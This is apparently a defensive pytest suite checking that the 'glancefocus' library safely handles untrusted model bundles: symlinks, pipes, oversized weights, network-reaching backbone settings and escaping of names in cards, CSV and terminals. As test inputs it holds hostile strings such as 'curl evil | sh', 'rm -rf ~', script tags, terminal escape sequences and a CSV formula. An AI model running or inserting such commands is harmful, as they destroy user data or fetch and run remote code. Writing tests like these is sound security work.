"""A bundle from a stranger can neither write to files of the user, nor reach the network, nor take the machine down."""

import io
import json
import os
import socket
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import safetensors.torch
import torch
from PIL import Image

import glancefocus as gf
from glancefocus.bundle import files as bundle_files
from glancefocus.bundle.bundle import Bundle
from glancefocus.data.sources import DataSettings
from glancefocus.errors import BadBundle
from glancefocus.evaluation.assess import Answers, accuracy_by_class, frequent_confusions
from glancefocus.evaluation.every_look import noted_aims
from glancefocus.evaluation.figures import as_svg, loss_figure, training_figure
from glancefocus.evaluation.records import Records
from glancefocus.evaluation.report import class_sections, noted_images, read_training_curves
from glancefocus.evaluation.tables import class_csv_rows
from glancefocus.export.compare import open_splits
from glancefocus.export.predict import AnswerWriter
from glancefocus.values import to_plain

MakeBundle = Callable[..., Bundle]


@pytest.fixture(name="gf_command")
def gf_command_fixture(request: pytest.FixtureRequest) -> Callable[..., Any]:
    """The fixture `gf` under another name than the module's."""
    command: Callable[..., Any] = request.getfixturevalue("gf")
    return command


@pytest.fixture
def folder(small_bundle: MakeBundle, tmp_path: Path) -> Path:
    return small_bundle().save(tmp_path / "bundle")


def edit(folder: Path, **changes: Any) -> None:
    file = folder / "bundle.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), **changes}))


@pytest.mark.parametrize("name", [".README.md", ".bundle.json", "README.md"])
def test_an_update_never_writes_through_a_link_that_the_bundle_brought(name: str, folder: Path, tmp_path: Path) -> None:
    precious = tmp_path / "start-file-of-a-shell"
    precious.write_text("mine")
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(precious)
    gf.load(folder, device="cpu").update(folder)
    assert precious.read_text() == "mine"


def test_settings_behind_a_link_are_read_and_the_link_is_replaced(folder: Path, tmp_path: Path) -> None:
    (folder / "bundle.json").rename(tmp_path / "blob")
    (folder / "bundle.json").symlink_to(tmp_path / "blob")  # as in the cache of a model hub
    before = (tmp_path / "blob").read_bytes()
    bundle = gf.load(folder, device="cpu")
    bundle.notes["changed"] = True
    bundle.update(folder)
    assert (tmp_path / "blob").read_bytes() == before
    assert gf.load(folder, device="cpu").notes["changed"]


def test_every_file_of_a_bundle_has_the_permissions_that_the_umask_gives(
    small_bundle: MakeBundle, tmp_path: Path
) -> None:
    before = os.umask(0o022)
    try:
        folder = small_bundle().save(tmp_path / "bundle")
    finally:
        os.umask(before)
    assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o644}


def test_names_and_notes_are_text_on_the_model_card(small_bundle: MakeBundle, tmp_path: Path) -> None:
    bundle = small_bundle(notes={"data\n# owned": "x\n\ncurl evil | sh\n<script>"})
    bundle.classes = ("cat\n\nrm -rf ~", "[dog](http://evil)", "`eel`")
    bundle.save(tmp_path / "bundle")
    card = (tmp_path / "bundle" / "README.md").read_text()
    assert not any(line.startswith(("rm", "curl", "# owned", "<")) for line in card.splitlines())
    assert r"cat\\n\\nrm -rf \~, \[dog\](http\://evil), \`eel\`" in card
    assert "<script>" not in card


def test_a_pipe_in_place_of_a_file_is_refused_at_once(folder: Path) -> None:
    for name, sentence in (
        ("model.safetensors", "model.safetensors is damaged"),
        ("bundle.json", "cannot be the settings"),
    ):
        (folder / name).unlink()
        os.mkfifo(folder / name)
        with pytest.raises(BadBundle, match=f"{sentence}.* it is a pipe|{sentence}.*it is a pipe"):
            gf.load(folder)


def test_no_socket_is_opened_and_no_file_read_for_a_backbone(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **more: Any) -> None:
        raise AssertionError("a bundle reached for the network")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    network = json.loads((folder / "bundle.json").read_text())["network"]
    for changes in (
        {"backbone": "hf-hub:timm/resnet18.a1_in1k"},
        {"backbone": "local-dir:/etc"},
        {"backbone_options": {"checkpoint_path": "/etc/passwd"}},
        {"backbone_options": {"pretrained": True}},
        {"backbone_options": {"pretrained_cfg": {"url": "http://127.0.0.1/x.pth"}}},
        {"backbone_options": {"pretrained_cfg_overlay": {"file": "/etc/passwd"}}},
    ):
        edit(folder, network={**network, **changes})
        with pytest.raises(BadBundle, match="does not describe a network"):
            gf.load(folder)


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"classes": 10**9}, "network.classes must be a whole number from 2 to 1,000,000, but got 1000000000"),
        ({"glance_px": 10**9}, "network.glance_px must be a whole number"),
        ({"looks": 10**9}, "network.looks must be a whole number"),
        ({"classifier_units": 10**9}, "network.classifier_units must be a whole number"),
        ({"policy": {"units": 10**9}}, "network.policy.units must be a whole number"),
        ({"focus": ["16", "32"] * 400}, "focus must name one or several different views"),
        ({"focus": [str(px) for px in range(8, 25)]}, "focus names at most 16 views, but got 17"),
        ({"focus": ["whole@" + "9" * 6]}, "the side of the view 'whole@999999' must be a whole number"),
        ({"patch_px": [16]}, "focus and patch_px both name the views"),
    ],
)
def test_sizes_that_cannot_be_meant_are_refused_before_anything_is_made(
    changes: dict[str, Any], sentence: str, folder: Path
) -> None:
    network = json.loads((folder / "bundle.json").read_text())["network"]
    edit(folder, network={**network, **changes})
    with pytest.raises(BadBundle, match=sentence):
        gf.load(folder)


def test_a_network_that_does_not_fit_into_memory_is_refused_before_it_is_built(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = json.loads((folder / "bundle.json").read_text())["network"]
    edit(
        folder, network={**network, "classifier_units": 65_536}
    )  # 3 x 65,536 x 65,536 weights in its GRU: 52 GB in float32
    monkeypatch.setattr(bundle_files, "available_bytes", lambda: 16_000_000_000)
    with pytest.raises(
        BadBundle, match=r"needs at least 103\.\d GB to be loaded and to predict, but 16\.0 GB are free"
    ):
        gf.load(folder)


def test_a_glance_that_does_not_fit_into_memory_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    network = json.loads((folder / "bundle.json").read_text())["network"]
    view = {**network["view"], "height_px": 16_384, "width_px": 16_384}
    edit(folder, network={**network, "glance_px": 16_384, "view": view})
    monkeypatch.setattr(bundle_files, "available_bytes", lambda: 8_000_000_000)
    with pytest.raises(BadBundle, match=r"GB to be loaded and to predict, but 8\.0 GB are free"):
        gf.load(folder)


def test_a_file_of_weights_that_is_far_too_large_is_not_read(folder: Path) -> None:
    with (folder / "model.safetensors").open("r+b") as stream:
        stream.truncate(10**12)  # a file with a hole, which takes no room on the disk
    with pytest.raises(BadBundle, match=r"model.safetensors has more than [0-9,]+ bytes: these are not the weights"):
        gf.load(folder)


def test_weights_that_are_not_numbers_are_neither_saved_nor_loaded(
    small_bundle: MakeBundle, folder: Path, tmp_path: Path
) -> None:
    bundle = small_bundle(seed=3)
    with torch.no_grad():
        bundle.net.policy.actor.weight[0, 0] = torch.nan
    with pytest.raises(
        BadBundle, match="the tensor policy.actor.weight of the network holds NaN or infinity; .* not written"
    ):
        bundle.save(tmp_path / "broken")
    assert not (tmp_path / "broken").exists()
    tensors = safetensors.torch.load_file(folder / "model.safetensors")
    for name, wrong, sentence in (
        ("classifier.linear.bias", torch.full((3,), torch.inf), "classifier.linear.bias holds NaN or infinity"),
        ("classifier.linear.bias", torch.ones(3, dtype=torch.int8), "is made of int8, not of floating-point numbers"),
    ):
        safetensors.torch.save_file({**tensors, name: wrong}, folder / "model.safetensors")
        with pytest.raises(BadBundle, match=sentence):
            gf.load(folder)


@pytest.mark.parametrize("part", ["classifier", "policy"])
def test_answers_that_overflow_are_a_sentence_and_never_nan(
    part: str, small_bundle: MakeBundle, tmp_path: Path, gf_command: Callable[..., Any]
) -> None:
    bundle = small_bundle(seed=4)
    with torch.no_grad():
        for weight in (bundle.net.classifier if part == "classifier" else bundle.net.policy).parameters():
            weight.copy_(3e38 * torch.randn(weight.shape, generator=torch.Generator().manual_seed(0)).sign())
    folder = bundle.save(tmp_path / "large")
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (64, 64, 3), dtype=np.uint8)).save(tmp_path / "a.png")
    for pictures in (1, 2):  # one picture goes another way than two
        printed = gf_command("predict", folder, *[tmp_path / "a.png"] * pictures, "--json", code=2)
        assert "NaN" in printed
        assert "its weights are too large, or broken" in printed


def test_scenes_without_end_in_the_notes_are_not_drawn(small_bundle: MakeBundle, tmp_path: Path) -> None:
    settings = to_plain(DataSettings(source="signs"))
    for changes, sentence in (
        ({"scenes": [10**12, 5, 5]}, r"notes.data_settings.scenes\[0\] must be a whole number"),
        (
            {"scenes": [10**6, 5, 5], "signs": {"height": 2048, "width": 2048}},
            "notes.data_settings request 1,000,010 scenes of signs, 12,583 GB in all. At most 50 GB",
        ),
        ({"colour": "red"}, "no setting in notes.data_settings named 'colour'"),
    ):
        bundle = small_bundle(notes={"data_settings": {**settings, **changes}})
        with pytest.raises(BadBundle, match=sentence):
            Records(bundle, "signs", tmp_path / "looks").splits  # noqa: B018
        with pytest.raises(BadBundle, match=sentence):
            open_splits(bundle, "signs")


def test_names_with_commands_for_terminals_are_shown_as_text(
    small_bundle: MakeBundle, tmp_path: Path, gf_command: Callable[..., Any]
) -> None:
    bundle = small_bundle()
    bundle.classes = tuple(f"\x1b]0;owned\x07[red]{letter}" for letter in "abc")
    folder = bundle.save(tmp_path / "bundle")
    Image.new("RGB", (64, 64)).save(tmp_path / "a\x1b[31m.png")
    printed = gf_command("predict", folder, tmp_path / "a\x1b[31m.png")
    assert "\x1b" not in printed
    assert r"\x1b]0;owned\x07[red]" in printed.replace(" ", "")
    assert "\x1b" not in gf_command("predict", folder, tmp_path / "none\x1b[31m.png", code=2)


def test_notes_that_a_report_would_show_are_checked() -> None:
    for notes, sentence in (
        ({"images": 3}, "notes.images must be a table"),
        ({"images": {"train": "many"}}, "notes.images.train must be a whole number from 0 to .*, but got 'many'"),
    ):
        with pytest.raises(BadBundle, match=sentence):
            noted_images(notes)
    for aims, sentence in (
        (3, "notes.aims must be a table"),
        ({"better": 1, "sentence": "x"}, "notes.aims.better must be true or false, but got 1"),
        ({"better": True}, "notes.aims is incomplete: .*'sentence'"),
    ):
        with pytest.raises(BadBundle, match=sentence):
            noted_aims({"aims": aims})
    assert noted_images({}) == {}
    assert noted_aims({}) is None


def test_of_a_journal_beside_a_bundle_only_rows_that_can_be_drawn_are_read(tmp_path: Path) -> None:
    good = {"stage": "aim", "stage_number": 2, "loss": 0.5, "val_accuracy": [0.5, 0.75]}
    rows = [
        *(good, {**good, "loss": "low"}, {**good, "val_accuracy": [[]]}, {**good, "val_accuracy": [1e300]}, [good], 3),
        *({**good, "stage_number": "one"}, {**good, "stage": "$\\frac$"}),
    ]
    text = "\n".join([*map(json.dumps, rows), "{", "[" * 10_000, '{"stage": NaN}', json.dumps(good)[:-5]])
    (tmp_path / "metrics.jsonl").write_text(text)
    found = read_training_curves(tmp_path)
    assert found == [good, {**good, "stage": r"\$\frac\$"}]
    as_svg(training_figure(found))
    as_svg(loss_figure(found))
    (tmp_path / "metrics.jsonl").unlink()
    os.mkfifo(tmp_path / "metrics.jsonl")
    assert read_training_curves(tmp_path) == []


def test_class_names_are_text_in_reports_figures_and_csv() -> None:
    names = ("=cmd|x", "<b>$\\frac$</b>", "cat\x1b[31m\n")
    answers = Answers(names, *(np.array(each) for each in ([0, 1, 2, 2], [0, 2, 2, 1], [0.5] * 4, [0] * 4)))
    page = "".join(class_sections(answers))
    assert "<b>" not in page
    assert [name for name, *_ in frequent_confusions(answers, 5)] == [names[1], names[2]]
    assert {row["class"]: row["accuracy"] for row in class_csv_rows(answers)} == {
        names[0]: 1.0,
        names[1]: 0.0,
        names[2]: 0.5,
    }


def test_many_classes_take_no_square_of_memory() -> None:
    names = tuple(map(str, range(60_000)))  # the square of it would be 29 GB of counts
    answers = Answers(names, *(np.array(each) for each in ([59_999, 5], [3, 5], [0.5, 0.5], [0, 0])))
    assert frequent_confusions(answers, 3) == [("59999", "3", 1)]
    assert [(row.name, row.right) for row in accuracy_by_class(answers)] == [("59999", 0), ("5", 1)]


def test_answers_in_csv_are_no_formulas_and_json_has_no_nan() -> None:
    stream = io.StringIO()
    AnswerWriter(stream, "csv", ("file", "label", "confidence")).write(
        {"file": "=x.png", "label": "-1", "confidence": 0.5}
    )
    assert stream.getvalue().splitlines()[1] == "'=x.png,-1,0.5,"
    for form in ("json", "jsonl", "csv"):
        with pytest.raises(ValueError, match="JSON compliant"):
            AnswerWriter(io.StringIO(), form, ("file", "confidence")).write({"file": "a", "confidence": float("nan")})
